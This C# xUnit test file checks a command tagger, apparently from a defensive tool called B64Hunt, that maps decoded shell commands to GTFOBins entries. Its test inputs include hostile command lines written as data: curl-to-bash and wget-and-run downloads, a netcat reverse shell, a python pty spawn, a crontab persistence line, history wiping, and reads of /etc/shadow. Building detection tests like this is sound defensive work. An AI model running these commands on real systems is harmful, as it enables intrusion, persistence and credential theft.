using System.Linq;
using B64Hunt.GtfoBins;
using B64Hunt.Model;
using Xunit;

namespace B64Hunt.Tests.GtfoBins
{
    public class GtfoBinsTaggerTests
    {
        private static readonly GtfoBinsTagger Tagger = new GtfoBinsTagger(GtfoBinsTestData.Bundled);

        private static string[] Names(string command) => Tagger.Tag(command).Select(t => t.Name).ToArray();

        [Theory]
        [InlineData("curl -s http://203.0.113.7/a.sh | bash", new[] { "curl", "bash" })]
        [InlineData("cat /etc/passwd", new[] { "cat" })]
        [InlineData("cd /tmp; wget -q http://x/m -O m; chmod +x m; ./m", new[] { "wget", "chmod" })]
        [InlineData("cat /tmp/cpu", new[] { "cat" })]
        [InlineData("sed -i 's/x/y/' /etc/hosts", new[] { "sed" })]
        [InlineData("echo 'vim nc curl wget'", new string[0])]
        [InlineData("ls -la /usr/bin/python3 /bin/nc", new string[0])]
        [InlineData("grep -r tar /etc", new[] { "grep" })]
        [InlineData("# curl x\nid", new string[0])]
        [InlineData("history -c; export HISTFILE=/dev/null; kill -9 1", new string[0])]
        [InlineData("command -v perl", new string[0])]
        public void TagsOnlyWhatRuns(string command, string[] expected)
        {
            Assert.Equal(expected, Names(command));
        }

        [Fact]
        public void WrappersAndWrappedCommandsAreTagged()
        {
            Assert.Equal(new[] { "sudo", "nice", "vim" }, Names("sudo -u root nice -n 5 vim /etc/sudoers"));
            Assert.Equal(new[] { "xargs", "curl" }, Names("echo http://x | xargs -n1 curl -O"));
            Assert.Equal(new[] { "busybox", "nc" }, Names("busybox nc 10.0.0.1 4444 -e sh"));
            // exec and command are builtins; time is a keyword.
            Assert.Equal(new[] { "perl" }, Names("exec perl -e 'print 1'"));
            Assert.Equal(new[] { "tar" }, Names("time tar czf x.tgz /etc"));
            Assert.Equal(new[] { "time", "vim" }, Names("/usr/bin/time -v vim /etc/hosts"));
        }

        [Fact]
        public void NestedCodeIsTagged()
        {
            Assert.Equal(new[] { "bash", "wget" }, Names("bash -c 'wget -q http://x -O /tmp/x'"));
            Assert.Equal(new[] { "python", "bash" }, Names("python3 -c 'import pty;pty.spawn(\"/bin/bash\")'"));
            Assert.Equal(new[] { "perl", "nc" }, Names("perl -e 'system(\"nc -lvp 4444\")'"));
            Assert.Equal(new[] { "wget" }, Names("echo 'wget -q http://x' | sh"));
            // a crontab line is installed, not run: crontab is tagged, curl is not
            Assert.Equal(new[] { "crontab" }, Names("(crontab -l; echo '* * * * * curl -fsSL http://x | sh') | crontab -"));
            Assert.Equal(new[] { "tee" }, Names("echo 'ExecStart=/usr/bin/python3 /opt/x.py' | tee /etc/systemd/system/x.service"));
        }

        [Fact]
        public void AliasVersionPathAndLoaderKeepHowTheyWereInvoked()
        {
            var rview = Assert.Single(Tagger.Tag("rview /etc/shadow"));
            Assert.Equal("vim", rview.Name);
            Assert.Equal("rview", rview.InvokedAs);
            Assert.Equal("https://gtfobins.github.io/gtfobins/vim/", rview.Url);

            var python = Assert.Single(Tagger.Tag("/usr/bin/python3.8 -m http.server"));
            Assert.Equal("python", python.Name);
            Assert.Equal("/usr/bin/python3.8", python.InvokedAs);

            var loader = Assert.Single(Tagger.Tag("/lib64/ld-linux-x86-64.so.2 /tmp/.x/payload"));
            Assert.Equal("ld.so", loader.Name);
            Assert.Equal("https://gtfobins.github.io/gtfobins/ld.so/", loader.Url);

            var gpp = Assert.Single(Tagger.Tag("g++ -o /tmp/x /tmp/x.cpp"));
            Assert.Equal("gcc", gpp.Name);
            Assert.Equal("g++", gpp.InvokedAs);

            var r = Assert.Single(Tagger.Tag("R --no-save -e 'system(\"id\")'"));
            Assert.Equal("R", r.Name);
            Assert.Null(r.InvokedAs);
        }

        [Fact]
        public void InheritBringsTheInheritedFunctionsAndContextsAreListed()
        {
            var man = Assert.Single(Tagger.Tag("man ls"));
            Assert.Equal(new[] { "less", "vi" }, man.InheritsFrom.Take(2));
            Assert.Contains("inherit", man.Functions);
            Assert.Contains("command", man.Functions); // from less
            Assert.Contains("file-write", man.Functions); // from less
            Assert.Equal(new[] { "unprivileged", "sudo", "suid" }, man.Contexts);

            var capsh = Assert.Single(Tagger.Tag("capsh --gid=0 --uid=0 --"));
            Assert.Equal(new[] { "shell" }, capsh.Functions);
        }

        [Fact]
        public void EnrichAppendsWithoutDuplicates()
        {
            var e = new CommandEvent { DecodedCommand = "curl -o /tmp/a http://x; curl http://y | sh" };
            e.GtfoFunctions.Add("download");
            Tagger.Enrich(e);
            Tagger.Enrich(e);
            Assert.Equal(new[] { "curl" }, e.GtfoBins.Select(t => t.Name));
            var curl = GtfoBinsTestData.Bundled.Entries.Single(x => x.Name == "curl");
            Assert.Equal(new[] { "download" }.Concat(curl.Functions.Where(f => f != "download")), e.GtfoFunctions);
        }

        [Fact]
        public void BinaryPayloadsAreNotTagged()
        {
            var e = new CommandEvent { DecodedCommand = "\\x7fELF curl", IsBinary = true };
            Tagger.Enrich(e);
            Assert.Empty(e.GtfoBins);
        }
    }
}
